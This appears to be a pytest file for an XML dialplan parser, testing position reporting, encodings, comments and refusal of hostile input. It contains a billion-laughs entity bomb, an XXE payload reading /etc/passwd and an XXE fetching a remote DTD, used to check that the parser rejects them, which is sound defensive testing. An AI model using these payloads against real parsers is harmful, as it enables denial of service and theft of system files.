@@ -1,0 +1,167 @@
+"""Safe parsing: positions, comments, encodings, and refusal of hostile documents."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from cftools.dialplan import MAX_SIZE, Comment, DialplanParseError, parse, validate
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+ <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+ <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+ <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+ <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+ <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<dialplan><play type="tts">&lol9;</play></dialplan>"""
+
+XXE = b"""<?xml version="1.0"?>
+<!DOCTYPE dialplan [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<dialplan><play type="tts">&secret;</play></dialplan>"""
+
+XXE_NETWORK = b"""<!DOCTYPE dialplan [
+  <!ENTITY % remote SYSTEM "http://203.0.113.1/x.dtd"> %remote;]>
+<dialplan/>"""
+
+
+def test_billion_laughs_is_refused_quickly_without_expansion() -> None:
+    start = time.perf_counter()
+    with pytest.raises(DialplanParseError) as exc:
+        parse(BILLION_LAUGHS)
+    assert time.perf_counter() - start < 1.0
+    assert exc.value.findings[0].code == "CF101"
+    assert "entities" in str(exc.value)
+    assert "amplification" in str(exc.value) or "lol9" in str(exc.value)
+    assert validate(BILLION_LAUGHS).errors[0].code == "CF101"
+
+
+def test_external_entities_are_refused_and_never_read() -> None:
+    with pytest.raises(DialplanParseError) as exc:
+        parse(XXE)
+    assert exc.value.findings[0].code == "CF101"
+    assert "root:" not in str(exc.value)
+    report = validate(XXE_NETWORK)
+    assert not report.ok
+    assert report.errors[0].code in ("CF100", "CF101")
+
+
+def test_doctype_without_entities_is_harmless() -> None:
+    plan = parse('<!DOCTYPE dialplan><dialplan name="Root"><hangup/></dialplan>')
+    assert plan.name == "Root"
+
+
+def test_size_limit() -> None:
+    big = "<dialplan>" + "<!-- x -->" * (MAX_SIZE // 10) + "</dialplan>"
+    with pytest.raises(DialplanParseError, match="over the"):
+        parse(big)
+
+
+@pytest.mark.parametrize(
+    ("xml", "line", "column", "words"),
+    [
+        ("<dialplan>\n  <play>x</plya>\n</dialplan>", 2, 17, "mismatch"),
+        ("<dialplan>\n<get>a?x=1&y=2</get></dialplan>", 2, 13, "EntityRef"),
+        ("", 1, 1, "empty"),
+        ("<dialplan a='1' a='2'/>", 1, 22, "redefined"),
+    ],
+)
+def test_malformed_xml_reports_line_and_column(
+    xml: str, line: int, column: int, words: str
+) -> None:
+    with pytest.raises(DialplanParseError) as exc:
+        parse(xml)
+    assert exc.value.findings[0].code == "CF100"
+    assert (exc.value.line, exc.value.column) == (line, column)
+    assert words in str(exc.value)
+    assert f"line {line}, column {column}" in str(exc.value)
+    assert isinstance(exc.value, ValueError)
+
+
+def test_positions_point_at_the_opening_bracket() -> None:
+    xml = (
+        '<?xml version="1.0"?>\n'
+        "<!-- a <fake> tag in a comment -->\n"
+        '<dialplan name="Root">\n'
+        '\t<menu name="m"\n'
+        '\t      timeout="5000"><play type="tts"><![CDATA[<not a tag>]]></play>\n'
+        '  <keypress pressed="1"><hangup/></keypress></menu>\n'
+        "</dialplan>"
+    )
+    plan = parse(xml)
+    found = [(e.tag, e.line, e.column) for e in plan.iter()]
+    assert found == [
+        ("dialplan", 3, 1),
+        ("menu", 4, 2),
+        ("play", 5, 23),
+        ("keypress", 6, 3),
+        ("hangup", 6, 25),
+    ]
+    assert plan.comments_before[0].line == 2
+    assert plan.elements[0].elements[0].text == "<not a tag>"
+
+
+def test_positions_with_bytes_in_a_declared_encoding() -> None:
+    xml = (
+        '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
+        '<dialplan><play type="tts">é</play> <hangup/></dialplan>'
+    )
+    plan = parse(xml.encode("latin-1"))
+    assert plan.elements[0].text == "é"
+    assert (plan.elements[1].line, plan.elements[1].column) == (2, 37)
+
+
+def test_str_input_ignores_the_declared_encoding() -> None:
+    plan = parse('<?xml version="1.0" encoding="ISO-8859-1"?><dialplan><wait>2</wait></dialplan>')
+    assert plan.elements[0].value == "2"
+
+
+def test_comments_are_kept_everywhere() -> None:
+    plan = parse("<!--a--><dialplan><!--b--><hangup/><!--c--></dialplan><!--d-->")
+    assert plan.comments_before == [Comment("a")]
+    assert plan.children[0] == Comment("b")
+    assert plan.children[2] == Comment("c")
+    assert plan.comments_after == [Comment("d")]
+    assert parse(plan.to_xml()) == plan
+
+
+def test_text_is_raw_for_values_and_trimmed_for_mixed_content() -> None:
+    plan = parse("<dialplan>\n  <transfer>\n    15550001111\n  </transfer>\n</dialplan>")
+    transfer = plan.elements[0]
+    assert transfer.text == "\n    15550001111\n  "
+    assert transfer.value == "15550001111"
+    assert plan.text == ""
+    mixed = parse("<dialplan> stray <hangup/> text </dialplan>")
+    assert mixed.text == "stray  text"
+
+
+def test_a_wrong_root_still_parses_for_validation() -> None:
+    plan = parse("<Response><Say>hi</Say></Response>")
+    assert plan.tag == "Response"
+    assert validate(plan).errors[0].code == "CF102"
+
+
+def test_processing_instructions_are_dropped() -> None:
+    plan = parse("<dialplan><?php echo 1; ?><hangup/></dialplan>")
+    assert [e.tag for e in plan.iter()] == ["dialplan", "hangup"]
+    assert plan.elements[0].column == 27
+
+
+def test_parse_rejects_other_types() -> None:
+    with pytest.raises(TypeError):
+        parse(42)  # type: ignore[arg-type]
+    assert validate(42).errors[0].code == "CF100"  # type: ignore[arg-type]
+
+
+def test_built_elements_have_no_position_until_set() -> None:
+    plan = parse("<dialplan><hangup/></dialplan>")
+    hangup = plan.elements[0]
+    hangup.line = 9
+    assert (hangup.line, hangup.column) == (9, 11)
+    assert plan.line == 1
